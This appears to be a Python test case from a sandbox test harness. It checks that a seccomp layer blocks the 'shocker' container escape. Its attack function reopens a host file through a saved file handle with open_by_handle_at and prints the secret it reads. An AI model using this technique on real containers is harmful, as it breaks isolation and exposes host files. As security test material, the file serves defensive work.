"""Opens a file outside by its file handle, which needs no path ("shocker").

layer: seccomp
control: root without a sandbox, who has CAP_DAC_READ_SEARCH, opens it
"""
import ctypes
import os

from harness import host

CONTROL = "root"


def scene(s):
    path = s.secret()
    handle = (ctypes.c_ubyte * 136)()
    ctypes.memmove(handle, (128).to_bytes(4, "little"), 4)
    mount_id = ctypes.c_int()
    result = host.syscall(303, -100, os.fsencode(path), handle, ctypes.byref(mount_id), 0)
    s.t.check(result == 0, f"name_to_handle_at: {result}")
    s.args = {"handle": bytes(handle).hex()}


def attack(a):
    handle = ctypes.create_string_buffer(bytes.fromhex(a["handle"]))
    for directory in (".", "/", "/usr", "/tmp"):
        def steal():
            top = os.open(directory, os.O_RDONLY)
            fd = syscall("open_by_handle_at", top, handle, os.O_RDONLY)
            print(os.read(fd, 100).decode())
        attempt(steal)
